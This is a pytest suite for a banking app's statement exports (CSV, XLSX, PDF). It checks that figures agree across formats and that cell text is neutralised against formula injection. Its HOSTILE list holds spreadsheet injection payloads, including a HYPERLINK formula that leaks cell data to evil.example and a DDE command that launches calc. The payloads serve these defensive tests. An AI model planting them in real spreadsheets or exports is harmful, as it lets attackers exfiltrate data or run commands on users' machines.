"""The four formats: their figures agree to the last digit, and none of them runs what somebody has written in a description."""

import csv
import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from itertools import pairwise
from typing import Any
from uuid import UUID, uuid4

import openpyxl
import pytest
from httpx import Response
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

from common.paper_fonts import REGULAR, register_fonts
from common.spreadsheets import harmless
from money.statement import Line, Statement
from money.statement_files import comma_separated, document, paper, workbook
from money.statement_files.amounts import Language, grouped, plain
from money.statement_files.words import WORDS
from tests.people import Person
from tests.server.ways import lambda_process

FORMS = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pdf": "application/pdf",
}
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"look")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    '"=1+1',
    "rent;=1+1",
    "rent; =1+1",
    'rent;"=1+1',
    "rent\t@x",
    "rent\n=1+1",
]
HARMLESS = ["", "rent", "a=b", "1-1", "a@b.example", "5 + 5", "Счёт №5", "'quoted'", "5; 6", "1,5"]


async def download(person: Person, account: str, form: str, lang: str = "en") -> Response:
    answer = await person.get(
        f"/v1/money/accounts/{account}/statement", params={"format": form, "lang": lang, "from": "2026-01-01"}
    )
    assert answer.status_code == 200, answer.text
    return answer


def rows_of_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))


def rows_of_xlsx(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def text_of_pdf(content: bytes) -> str:
    return "\n".join(pages_of_pdf(content))


def pages_of_pdf(content: bytes) -> list[str]:
    """With plain blanks for those that do not break."""
    return [page.extract_text().replace("\u00a0", " ") for page in PdfReader(io.BytesIO(content)).pages]


def shown(amount: int, exponent: int, lang: Language) -> str:
    return grouped(amount, exponent, lang).replace("\u00a0", " ")


def made_up(
    count: int, *, currency: str = "EUR", exponent: int = 2, name: str = "", largest: int = 10**6
) -> tuple[Statement, list[Line]]:
    """A statement without a database."""
    balance, lines = largest // 3, []
    moment = datetime(2026, 2, 1, 8, tzinfo=UTC)
    for n in range(1, count + 1):
        amount = (n * 7919 % (largest // 7) + 1) * (-1 if n % 3 == 0 else 1)
        balance += amount
        description = (HOSTILE + HARMLESS)[n % (len(HOSTILE) + len(HARMLESS))].replace("\n", " ").replace("\r", " ")
        other = uuid4() if n % 2 else None
        named = None if other else HOSTILE[n % len(HOSTILE)].strip() + "@evil.example"
        when = moment + timedelta(hours=n)
        lines.append(Line(n, uuid4(), when, "transfer", description, other, named, amount, balance))
    incoming = sum(max(line.amount, 0) for line in lines)
    outgoing = sum(max(-line.amount, 0) for line in lines)
    made = Statement(
        account_id=uuid4(),
        name=name,
        currency=currency,
        exponent=exponent,
        since=date(2026, 2, 1),
        until=date(2026, 2, 28),
        made_at=datetime(2026, 3, 1, tzinfo=UTC),
        before=0,
        last=count,
        opening=largest // 3,
        incoming=incoming,
        outgoing=outgoing,
        closing=balance,
    )
    return made, lines


async def written(statement: Statement, lines: list[Line], language: Language = "en") -> bytes:
    async def stretches() -> Any:
        for start in range(0, len(lines), 7):
            yield lines[start : start + 7]

    return "".join([piece async for piece in comma_separated.write(statement, stretches(), language)]).encode()


@pytest.mark.parametrize(("currency", "exponent"), [("EUR", 2), ("JPY", 0), ("KWD", 3)])
@pytest.mark.parametrize("lang", ["en", "ru"])
async def test_figures_agree_in_all_formats_to_the_last_digit(
    ada: Person, bob: Person, currency: str, exponent: int, lang: Language
) -> None:
    hers, his = await ada.account(9_007_199_254_740_991, currency), await bob.account(0, currency)
    for amount, description in ((1, "Обед на двоих"), (1234567, "=1+1"), (5_000_000_000_000_001, "")):
        order = {"from_account_id": hers, "to_account_id": his, "amount": amount, "currency": currency}
        made = await ada.post("/v1/money/transfers", order | {"description": description})
        assert made.status_code == 201
    told = (await download(ada, hers, "json")).json()
    assert [line["amount"] for line in told["lines"]] == [
        9_007_199_254_740_991,
        -1,
        -1_234_567,
        -5_000_000_000_000_001,
    ]
    amounts = [Decimal(line["amount"]).scaleb(-exponent) for line in told["lines"]]
    balances = [Decimal(line["balance_after"]).scaleb(-exponent) for line in told["lines"]]
    opening, incoming, outgoing, closing = (
        Decimal(told[name]).scaleb(-exponent)
        for name in ("opening_balance", "total_in", "total_out", "closing_balance")
    )

    heads, first, *lines, sum_in, sum_out, last = rows_of_csv((await download(ada, hers, "csv", lang)).content)
    assert heads[4:7] == [WORDS[lang].amount, WORDS[lang].balance, WORDS[lang].currency]
    assert [Decimal(line[4]) for line in lines] == amounts
    assert [Decimal(line[5]) for line in lines] == balances
    assert all(len(line[4].partition(".")[2]) == exponent for line in lines)
    assert (Decimal(first[5]), Decimal(sum_in[4]), Decimal(sum_out[4]), Decimal(last[5])) == (
        opening,
        incoming,
        -outgoing,
        closing,
    )

    content = (await download(ada, hers, "xlsx", lang)).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    for figure in [*amounts, *balances, opening, incoming, -outgoing, closing]:
        assert f"<v>{figure:f}</v>" in sheet
    again = rows_of_xlsx(content)
    assert [row[4] for row in again[2:6]] == [float(amount) for amount in amounts]

    printed = text_of_pdf((await download(ada, hers, "pdf", lang)).content).replace("\n", " ")
    for figure in [*told["lines"]]:
        for amount in (figure["amount"], figure["balance_after"]):
            assert shown(amount, exponent, lang) in printed
    assert shown(told["closing_balance"], exponent, lang) + f" {currency}" in printed
    assert "Обед на двоих" in printed
    assert WORDS[lang].title in printed


async def test_files_come_as_downloads_with_a_safe_name(ada: Person) -> None:
    account = await ada.account(100)
    await ada.client.patch(f"/v1/money/accounts/{account}", json={"name": 'x".exe; y="../Счёт'}, headers=ada.auth)
    for form, content_type in FORMS.items():
        answer = await download(ada, account, form)
        assert answer.headers["content-type"] == content_type
        disposition = answer.headers["content-disposition"]
        assert disposition.isascii()
        assert disposition == (
            f'attachment; filename="statement-EUR-2026-01-01-{datetime.now(UTC).date()}-'
            f'{UUID(account).hex[-8:]}.{form}"'
        )
        assert "no-store" in answer.headers["cache-control"]


async def test_files_come_whole_out_of_lambda_too(ada: Person) -> None:
    account = await ada.account(12_345)
    with lambda_process() as on_lambda:
        for form, beginning in (("csv", b"\xef\xbb\xbfDate"), ("xlsx", b"PK"), ("pdf", b"%PDF-")):
            path = f"/v1/money/accounts/{account}/statement?format={form}&from=2026-01-01"
            answer = await on_lambda("GET", path, ada.auth, None)
            assert (answer.status, answer.headers["content-type"]) == (200, FORMS[form])
            assert answer.body.startswith(beginning)
            if form == "xlsx":
                assert rows_of_xlsx(answer.body)[2][4] == 123.45
            elif form == "pdf":
                assert "123.45" in text_of_pdf(answer.body)


async def test_csv_is_in_utf8_with_its_mark_and_ends_lines_as_rfc_4180_says(ada: Person, bob: Person) -> None:
    hers, his = await ada.account(100), await bob.account()
    order = {"from_account_id": hers, "to_account_id": his, "amount": 1, "currency": "EUR"}
    await ada.post("/v1/money/transfers", order | {"description": 'Чай, "зелёный"'})
    content = (await download(ada, hers, "csv", "ru")).content
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\n") == content.count(b"\r\n") == 7
    assert 'Перевод,"Чай, ""зелёный"""' in content.decode()
    rows = rows_of_csv(content)
    assert {len(row) for row in rows} == {8}
    assert rows[3][3] == his
    assert [row[1] for row in rows] == [
        "Операция",
        "Входящий остаток",
        "Пополнение",
        "Перевод",
        "Всего поступило",
        "Всего списано",
        "Исходящий остаток",
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_are_made_harmless(text: str) -> None:
    made = harmless(text)
    assert made.replace("'", "") == text.replace("'", "")
    for part in made.replace("\t", ";").replace("\n", ";").replace("\r", ";").split(";"):
        bare = part.strip(' \u00a0\u200b\ufeff"')
        assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), made
    assert not made.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@given(st.text(max_size=30))
def test_no_cell_begins_with_what_a_spreadsheet_runs(text: str) -> None:
    assert harmless(text)[:1] not in tuple("=+-@\t\r\n＝＋－＠")


async def test_a_csv_keeps_words_apart_from_figures_whatever_they_are() -> None:
    statement, lines = made_up(60)
    rows = rows_of_csv(await written(statement, lines))
    assert len(rows) == 65
    for row, line in zip(rows[2:-3], lines, strict=True):
        assert row[2] == harmless(line.description)
        assert row[3] == harmless(line.other_side)
        assert (Decimal(row[4]), Decimal(row[5])) == (
            Decimal(line.amount).scaleb(-2),
            Decimal(line.balance_after).scaleb(-2),
        )


def test_a_workbook_has_text_numbers_and_dates_and_no_formula() -> None:
    statement, lines = made_up(60, name="=evil()")
    lines[0] = replace(lines[0], description="\x01null\uffff")
    book = openpyxl.load_workbook(io.BytesIO(workbook.write(statement, lines, "en")))
    sheet, details = book.worksheets
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].width > 40
    rows = list(sheet.iter_rows())
    for row, line in zip(rows[2:-3], lines, strict=True):
        assert [cell.data_type for cell in row[:4]] == ["d", "s", "s" if line.description else "n", "s"]
        assert row[0].value == line.booked_at.replace(tzinfo=None)
        assert [cell.data_type for cell in row[4:6]] == ["n", "n"]
        assert {cell.number_format for cell in row[4:6]} == {"#,##0.00"}
    assert rows[2][2].value == "null"
    assert [row[2].value or "" for row in rows[3:-3]] == [line.description for line in lines[1:]]
    everything = [cell for each in (sheet, details) for row in each.iter_rows() for cell in row]
    assert {cell.data_type for cell in everything} == {"d", "s", "n"}
    assert all(cell.quotePrefix for cell in everything if str(cell.value)[:1] in tuple("=+@"))
    assert [row[1].value for row in rows[-3:]] == ["Total in", "Total out", "Closing balance"]
    assert all(cell.font.b for cell in rows[-1][:7])
    assert (details["B2"].value, details["B3"].value) == ("=evil()", str(statement.account_id))


@pytest.mark.parametrize(("exponent", "form"), [(0, "#,##0"), (3, "#,##0.000")])
def test_a_workbook_shows_the_digits_of_its_currency(exponent: int, form: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook.write(*made_up(3, exponent=exponent), "ru")))
    assert book.worksheets[0]["E3"].number_format == form


def test_a_pdf_repeats_its_heading_and_counts_its_pages() -> None:
    statement, lines = made_up(120, name="Сбережения")
    content = document.write(statement, lines, "ru")
    pages = pages_of_pdf(content)
    assert len(pages) > 3
    for n, page in enumerate(pages, 1):
        assert f"{n} / {len(pages)}" in page
        assert "Остаток" in page
        assert str(statement.account_id) in page
        assert "Выписка по счёту" in page
    assert "Сбережения" in pages[0]
    assert "Исходящий остаток" in pages[-1]
    everything = "\n".join(pages)
    for line in lines:
        assert shown(line.balance_after, 2, "ru") in everything
    metadata = PdfReader(io.BytesIO(content)).metadata
    assert metadata is not None
    assert "Выписка по счёту" in str(metadata.title)


@pytest.mark.parametrize("count", [0, 1, 2, 3, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 40])
def test_a_pdf_of_any_length_has_its_totals_with_the_last_lines(count: int) -> None:
    statement, lines = made_up(count, largest=9 * 10**15)
    pages = pages_of_pdf(document.write(statement, lines, "en"))
    last = pages[-1]
    assert "Closing balance" in last
    assert last.count("Transfer") >= min(count, 1)
    assert sum(page.count("Transfer") for page in pages) == count
    if not count:
        assert "Nothing came and nothing went" in last


def test_a_pdf_takes_letters_that_its_font_has_not() -> None:
    statement, lines = made_up(1, name="財布 🫖")
    lines[0] = replace(lines[0], description="寿司 🍣 and tea")
    text = text_of_pdf(document.write(statement, lines, "en"))
    assert "and tea" in text


@given(st.text(max_size=200), st.floats(20, 300))
def test_text_is_wrapped_within_its_column_and_nothing_of_it_is_lost(text: str, width: float) -> None:
    register_fonts()
    lines = paper.wrapped(text, REGULAR, 8.5, width)
    assert "".join("".join(lines).split()) == "".join(text.split())
    assert all(len(line) == 1 or paper.width_of(line, REGULAR, 8.5) <= width + 0.01 for line in lines)


@given(st.lists(st.floats(10, 120), max_size=60), st.floats(200, 400), st.floats(400, 700))
def test_pages_have_every_line_in_order_and_room_for_all_of_them(
    heights: list[float], first: float, others: float
) -> None:
    blocks = [paper.Block(n, height) for n, height in enumerate(heights)]
    made = paper.pages(blocks, first, others, 76)
    assert [block.content for page in made for block in page] == list(range(len(heights)))
    for n, page in enumerate(made):
        room = others if n else first
        tail = 76 if n == len(made) - 1 else 0
        assert sum(block.height for block in page) + tail <= room + 0.01


@given(st.integers(-(2**53), 2**53), st.sampled_from([0, 2, 3, 4]))
def test_amounts_are_exact(amount: int, exponent: int) -> None:
    assert Decimal(plain(amount, exponent)) * 10**exponent == amount
    assert len(plain(amount, exponent).partition(".")[2]) == exponent
    languages: list[tuple[Language, Callable[[str], str]]] = [
        ("en", lambda text: text.replace(",", "")),
        ("ru", lambda text: text.replace("\u00a0", "").replace(",", ".")),
    ]
    for language, back in languages:
        assert back(grouped(amount, exponent, language)) == plain(amount, exponent)


def test_both_languages_say_everything() -> None:
    kinds = {
        "deposit",
        "withdrawal",
        "transfer",
        "capture",
        "reversal",
        "refund",
        "exchange",
        "adjustment",
        "claim",
        "return",
        "suspense",
    }
    for words in WORDS.values():
        assert set(words.kinds) == kinds
        assert all(getattr(words, name) for name in words.__slots__)
    for one, other in pairwise(WORDS.values()):
        assert all(getattr(one, name) != getattr(other, name) for name in one.__slots__)


def test_nothing_heavy_is_imported_before_it_is_asked_for() -> None:
    ask = (
        "import sys; from money.app import app; app.complete(); "
        "sys.exit(any(name.startswith(('openpyxl', 'reportlab', 'PIL')) for name in sys.modules))"
    )
    assert subprocess.run([sys.executable, "-c", ask], check=False).returncode == 0
